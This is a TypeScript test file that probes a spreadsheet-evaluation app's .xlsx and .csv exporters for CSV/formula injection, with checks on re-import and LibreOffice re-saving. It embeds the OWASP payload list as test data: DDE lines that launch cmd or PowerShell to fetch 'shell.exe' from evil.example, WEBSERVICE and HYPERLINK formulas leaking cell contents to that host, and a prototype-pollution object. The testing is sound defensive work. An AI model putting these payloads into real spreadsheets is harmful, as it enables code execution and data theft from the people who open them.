/**
 * The CSV/formula-injection probe, kept as a test. The OWASP payload list goes into every
 * text field of an evaluation, with the crafted settings and grade bounds a hostile backup or
 * carrier sheet could hold, and is exported to .xlsx (each layout) and .csv:
 *   (a) through restoreEvaluation first, as every entry of the app does, and
 *   (b) straight into the exporters, unvalidated: the export itself must build formulas from
 *       numbers only (defence in depth).
 * Every formula in the output (read by ExcelJS, and after LibreOffice has opened and re-saved
 * the files) must hold no payload text and no function but the arithmetic the exporter builds.
 * Prints `injections N, formulas N` (formulas: injected formulas found; must be 0).
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import type { Evaluation, Indicator } from '../../../src/domain/index.ts';
import { nationalFramework, restoreEvaluation, selfEvaluation2022 } from '../../../src/domain/index.ts';
import { exportCsv } from '../../../src/io/export-csv.ts';
import { LAYOUT_LABELS, exportXlsx, type ExportLayout } from '../../../src/io/export-xlsx.ts';
import { CARRIER_SHEET } from '../../../src/io/evaluation-carrier.ts';
import { importAll } from '../../../src/io/import-workbook.ts';

/** OWASP "CSV Injection" payloads and their common variants (DDE, prefixes, full-width forms). */
export const PAYLOADS: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+1`,
  `-2+3`,
  `=1+1`,
  `=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")`,
  `=WEBSERVICE("http://evil.example/?d="&C3)`,
  `=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")`,
  `=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0`,
  `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
  `DDE("cmd";"/C calc";"!A0")A0`,
  `=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''`,
  `=rundll32|'URL.dll,FileProtocolHandler calc.exe'!A0`,
  `+cmd|' /C calc'!A0`,
  `-cmd|' /C calc'!A0`,
  `@cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=cmd|' /C calc'!A0`,
  ` =1+1`,
  `＝1+1`,
  `＋cmd|' /C calc'!A0`,
  `＠SUM(1+1)`,
  `'=1+1`,
  `="=cmd|' /C calc'!A0"`,
  `=1+1;=cmd|' /C calc'!A0`,
  `=INFO("system")`,
  `=LEN(HYPERLINK("http://evil.example/"))`,
  `=SUM(1+1)`,
  `=ROUND(1,0)+WEBSERVICE("http://evil.example/")`,
  `%0A=1+1`,
  `{=1+1}`,
];

const CRAFTED_DECIMALS = '2)+0*LEN(HYPERLINK("http://evil.example/"))+ROUND(0,0';
const CRAFTED_MIN = '80,"良")&WEBSERVICE("http://evil.example/?d="&C3)&IF(FALSE';

/** Text that only a payload puts into a formula. */
const MARKERS = ['cmd', 'calc', 'HYPERLINK', 'WEBSERVICE', 'IMPORTXML', 'CONCAT', 'DDE', 'MSEXCEL', 'rundll32', 'powershell', 'INFO', 'evil', '1+1', '2+3', 'A0', 'FALSE', '|', ';', '{', '＝', '＋', '＠'];
/** The functions the exporter builds its formulas with. */
const ALLOWED = new Set(['SUM', 'ROUND', 'ROUNDDOWN', 'IF', 'MIN', 'MAX', 'OR', 'AND', 'ABS', 'IFERROR']);

const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice', '/usr/lib/libreoffice/program/soffice'].find((p) => existsSync(p));

let placed = 0;
let next = 0;
/** The next payload, round the list, so every payload lands in several fields. */
function payload(): string {
  placed++;
  return PAYLOADS[next++ % PAYLOADS.length]!;
}

/** Every text field of the evaluation (meta, funds, indicators, rules, scale, adjustments) a payload. */
function poisoned(base: Evaluation): Evaluation {
  const walk = (node: Indicator): Indicator => {
    const out: Indicator = {
      ...node, name: payload(), code: payload(), explanation: payload(), guidance: payload(), criteria: payload(), reason: payload(),
      children: node.children.map(walk),
    };
    if (node.children.length === 0) {
      // Targets and actuals too (those that are not figures stay text in the sheet).
      if (!node.rule || node.rule.type === 'manual' || next % 2 === 0) {
        out.target = payload();
        out.actual = payload();
      }
      const rule = node.rule;
      if (rule?.type === 'levels') out.rule = { ...rule, levels: rule.levels.map((l) => ({ ...l, label: payload() })), chosen: payload() };
      if (rule?.type === 'checklist') out.rule = { ...rule, items: rule.items.map((i) => ({ ...i, label: payload() })) };
      if (rule?.type === 'formula') out.rule = { ...rule, expression: payload(), variables: [{ name: payload(), expression: payload() }] };
    }
    return out;
  };
  return {
    ...base,
    meta: {
      ...base.meta, projectName: payload(), department: payload(), implementer: payload(), year: payload(), evaluator: payload(), notes: payload(),
      goalExpected: payload(), goalAchieved: payload(),
    },
    funds: base.funds ? { ...base.funds, unit: payload() } : base.funds,
    indicators: base.indicators.map(walk),
    settings: { ...base.settings, gradeScale: { ...base.settings.gradeScale, name: payload(), bands: base.settings.gradeScale.bands.map((b) => ({ ...b, grade: payload() })) } },
    adjustments: [
      { id: 'cap', kind: 'execution-cap', name: payload(), enabled: true, rate: null, caps: [{ below: 0.5, cap: 59 }] },
      { id: 'dock', kind: 'overshoot-dock', name: payload(), enabled: true, threshold: 0.3, points: 1 },
    ],
  };
}

/** The crafted numbers of a hostile file: text where decimals and a grade bound belong. */
function crafted(e: Evaluation): Evaluation {
  const bands = e.settings.gradeScale.bands.map((b, i) => (i === 1 ? { ...b, min: CRAFTED_MIN as unknown as number } : b));
  return { ...e, settings: { ...e.settings, decimals: CRAFTED_DECIMALS as unknown as number, gradeScale: { ...e.settings.gradeScale, bands } } };
}

/** The fields of a CSV text (RFC 4180: quotes doubled, line breaks inside quotes). */
function csvFields(text: string): string[] {
  const out: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i++; }
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"' && field === '') quoted = true;
    else if (ch === ',' || ch === '\n') { out.push(field.replace(/\r$/, '')); field = ''; }
    else field += ch;
  }
  if (field) out.push(field);
  return out;
}

interface Finding { file: string; sheet: string; cell: string; formula: string; why: string }

/** Formula text without its string literals, for the function-name check. */
const withoutStrings = (f: string): string => f.replace(/"(?:[^"]|"")*"/g, '""');

function judge(formula: string): string | null {
  const marker = MARKERS.find((m) => formula.includes(m));
  if (marker) return `contains “${marker}”`;
  const functions = [...withoutStrings(formula).matchAll(/([A-Za-z_][A-Za-z0-9_.]*)\s*\(/g)].map((m) => m[1]!.toUpperCase());
  const foreign = functions.find((f) => !ALLOWED.has(f));
  return foreign ? `calls ${foreign}` : null;
}

/** Every formula of every sheet (the hidden carrier too), with what is wrong with it. */
async function formulasIn(bytes: Uint8Array | Buffer, file: string): Promise<{ count: number; bad: Finding[] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as never);
  let count = 0;
  const bad: Finding[] = [];
  wb.eachSheet((ws) => {
    ws.eachRow({ includeEmpty: false }, (row) => {
      row.eachCell({ includeEmpty: false }, (cell) => {
        const formula = cell.formula ?? (cell.value as { sharedFormula?: string } | null)?.sharedFormula;
        if (typeof formula !== 'string') return;
        count++;
        const why = judge(formula);
        if (why) bad.push({ file, sheet: ws.name, cell: cell.address, formula: formula.slice(0, 120), why });
      });
    });
  });
  return { count, bad };
}

const layouts = Object.keys(LAYOUT_LABELS) as ExportLayout[];
const bases: [string, () => Evaluation][] = [['national', nationalFramework], ['self2022', selfEvaluation2022]];
const dir = mkdtempSync(join(tmpdir(), 'jixiao-injection-'));
const written: string[] = [];
const totals = { injections: 0, formulas: 0, checked: 0 };

afterAll(() => {
  console.log(`injections ${totals.injections}, formulas ${totals.formulas} (formula cells checked: ${totals.checked})`);
  rmSync(dir, { recursive: true, force: true });
});

async function exportAll(label: string, e: Evaluation): Promise<Finding[]> {
  const bad: Finding[] = [];
  for (const layout of layouts) {
    for (const cachedResults of [true, false]) {
      const file = `${label}-${layout}${cachedResults ? '' : '-nocache'}.xlsx`;
      const bytes = await exportXlsx(e, { layout, cachedResults });
      writeFileSync(join(dir, file), bytes);
      written.push(file);
      const found = await formulasIn(bytes, file);
      totals.checked += found.count;
      bad.push(...found.bad);
    }
  }
  const csv = `${label}.csv`;
  writeFileSync(join(dir, csv), exportCsv(e));
  written.push(csv);
  return bad;
}

describe('formula injection: the OWASP list and crafted numbers, exported', () => {
  it('lists at least 20 payloads, and the check finds an injected formula when there is one', async () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(20);
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('对照');
    ws.getCell('A1').value = { formula: 'ROUND(B1*MIN(1,C1),2)', result: 1 } as ExcelJS.CellFormulaValue;
    ws.getCell('A2').value = { formula: 'SUM(A1:A1)+WEBSERVICE("http://evil.example/")' } as ExcelJS.CellFormulaValue;
    ws.getCell('A3').value = { formula: 'ROUND(C3,2)+0*LEN(X1)' } as ExcelJS.CellFormulaValue;
    ws.getCell('A4').value = { formula: 'IF(C4>=80,"良")&IF(FALSE,1,2)' } as ExcelJS.CellFormulaValue;
    const found = await formulasIn(new Uint8Array(await wb.xlsx.writeBuffer()), '对照.xlsx');
    expect(found.count).toBe(4);
    expect(found.bad.map((b) => [b.cell, b.why])).toEqual([['A2', 'contains “WEBSERVICE”'], ['A3', 'calls LEN'], ['A4', 'contains “FALSE”']]);
  });

  it.each(bases)('(a) %s: restoreEvaluation refuses the crafted numbers, then the export of every payload has no injected formula', async (label, make) => {
    placed = 0;
    const hostile = poisoned(make());
    const refused = restoreEvaluation(JSON.parse(JSON.stringify(crafted(hostile))));
    expect(refused.ok).toBe(false);
    if (!refused.ok) {
      expect(refused.errors.join('\n')).toContain('评分设置：小数位数不是数字');
      expect(refused.errors.join('\n')).toMatch(/评分设置：等级“.*”的下限不是数字/);
    }
    const restored = restoreEvaluation(JSON.parse(JSON.stringify(hostile)));
    if (!restored.ok) throw new Error(restored.errors.join('\n'));
    totals.injections += placed;
    const bad = await exportAll(`a-${label}`, restored.evaluation);
    totals.formulas += bad.length;
    expect(bad).toEqual([]);
  });

  it.each(bases)('(b) %s: unvalidated, straight into the exporters, still no injected formula', async (label, make) => {
    placed = 0;
    const hostile = crafted(poisoned(make()));
    totals.injections += placed + 2;
    const bad = await exportAll(`b-${label}`, hostile);
    totals.formulas += bad.length;
    expect(bad).toEqual([]);
    // In the CSV every field that a spreadsheet would retype as a formula carries the apostrophe.
    const fields = csvFields(new TextDecoder().decode(exportCsv(hostile)).replace(/^\ufeff/, ''));
    const unguarded = fields.filter((f) => /^[=+\-@\t\r\n]/.test(f) && !/^-?\d+(\.\d+)?$/.test(f));
    expect(unguarded).toEqual([]);
    expect(fields.filter((f) => f.startsWith("'")).length).toBeGreaterThan(PAYLOADS.length / 2);
  });

  it('(a) a carrier sheet edited to hold the crafted numbers is refused on re-import; the table is read instead, and its export is clean', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await exportXlsx(nationalFramework())) as never);
    const carrier = wb.getWorksheet(CARRIER_SHEET)!;
    const chunks = (carrier.getColumn(1).values as unknown[]).filter((v): v is string => typeof v === 'string').slice(2);
    const envelope = JSON.parse(chunks.join('')) as { evaluation: Evaluation };
    envelope.evaluation = crafted(envelope.evaluation);
    const json = JSON.stringify(envelope);
    // One chunk: the mark, the chunk count, the JSON (rows below are left over, past the count).
    carrier.getCell(1, 1).value = 'JIXIAO-EVALUATION v1';
    carrier.getCell(2, 1).value = '1';
    carrier.getCell(3, 1).value = json;
    const tampered = new Uint8Array(await wb.xlsx.writeBuffer());
    const read = importAll(tampered, '改过的导出.xlsx');
    if (!read.ok) throw new Error(read.errors.map((e) => e.message).join('\n'));
    expect(read.value.analysis.restored).toEqual([]);
    expect(read.warnings.map((w) => w.message).join('\n')).toMatch(/隐藏数据无法使用（评价数据有误：.*评分设置：小数位数不是数字/);
    const evaluation = read.value.evaluations[0]!;
    expect(evaluation.settings.decimals).toBe(2);
    totals.injections += 2;
    const bad = await exportAll('a-carrier', evaluation);
    totals.formulas += bad.length;
    expect(bad).toEqual([]);
  });
});

describe('the carrier sheet: repaired with a warning', () => {
  it('NULs and unknown keys in the hidden sheet are removed on re-import, and the import says so', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await exportXlsx(nationalFramework())) as never);
    const carrier = wb.getWorksheet(CARRIER_SHEET)!;
    const chunks = (carrier.getColumn(1).values as unknown[]).filter((v): v is string => typeof v === 'string').slice(2);
    const envelope = JSON.parse(chunks.join('')) as { evaluation: Evaluation & { injected?: unknown } };
    envelope.evaluation.meta.projectName = '智慧\u0000党建';
    envelope.evaluation.injected = { constructor: { prototype: { polluted: true } } };
    carrier.getCell(1, 1).value = 'JIXIAO-EVALUATION v1';
    carrier.getCell(2, 1).value = '1';
    carrier.getCell(3, 1).value = JSON.stringify(envelope);
    const read = importAll(new Uint8Array(await wb.xlsx.writeBuffer()), '带NUL.xlsx');
    if (!read.ok) throw new Error(read.errors.map((e) => e.message).join('\n'));
    const restored = read.value.analysis.restored[0]!;
    expect(restored.meta.projectName).toBe('智慧党建');
    expect(Object.hasOwn(restored, 'injected')).toBe(false);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const messages = read.warnings.map((w) => w.message);
    expect(messages).toContain('文件“带NUL.xlsx”中的 Jixiao 隐藏数据：已删除文本中的控制字符（如 NUL）：基本信息的项目名称。');
    expect(messages).toContain('文件“带NUL.xlsx”中的 Jixiao 隐藏数据：已忽略无法识别的字段：评价的“injected”。');
  });
});

describe.skipIf(!process.env.JIXIAO_PROBES)('formula injection: after LibreOffice opens and re-saves every export', () => {
  it('no injected formula in LibreOffice\'s own .xlsx of each export (.xlsx and .csv)', async () => {
    expect(SOFFICE, 'LibreOffice (soffice) is required: node scripts/ensure-libreoffice.mjs').toBeDefined();
    expect(written.length).toBeGreaterThan(0);
    const out = join(dir, 'lo');
    const xlsx = written.filter((f) => f.endsWith('.xlsx')).map((f) => join(dir, f));
    // A control: the same payloads unguarded, which LibreOffice must turn into formulas, or the check proves nothing.
    writeFileSync(join(dir, 'control-unguarded.csv'), `\ufeff甲,=1+1\r\n乙,"=HYPERLINK(""http://evil.example/"")"\r\n`);
    const csv = [...written.filter((f) => f.endsWith('.csv')), 'control-unguarded.csv'].map((f) => join(dir, f));
    const run = (args: string[]) => execFileSync(SOFFICE!, [`-env:UserInstallation=file://${dir}/profile`, '--headless', '--norestore', ...args], { stdio: 'pipe', timeout: 90_000 });
    run(['--convert-to', 'xlsx', '--outdir', out, ...xlsx]);
    // CSV as a reader opens it: comma, double quote, UTF-8, formulas evaluated (token 13 = true).
    run(['--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true', '--convert-to', 'xlsx', '--outdir', join(out, 'csv'), ...csv]);
    const converted = [...readdirSync(out).filter((f) => f.endsWith('.xlsx')).map((f) => join(out, f)), ...readdirSync(join(out, 'csv')).map((f) => join(out, 'csv', f))];
    expect(converted).toHaveLength(xlsx.length + csv.length);
    const bad: Finding[] = [];
    let checked = 0;
    let control: Finding[] = [];
    for (const path of converted) {
      const found = await formulasIn(readFileSync(path), `LibreOffice: ${path.slice(out.length + 1)}`);
      if (path.includes('control-unguarded')) {
        control = found.bad;
        continue;
      }
      checked += found.count;
      bad.push(...found.bad);
    }
    expect(control.map((c) => c.why)).toEqual(['contains “1+1”', 'contains “HYPERLINK”']);
    totals.checked += checked;
    totals.formulas += bad.length;
    expect(checked).toBeGreaterThan(0);
    expect(bad).toEqual([]);
  }, 120_000);
});
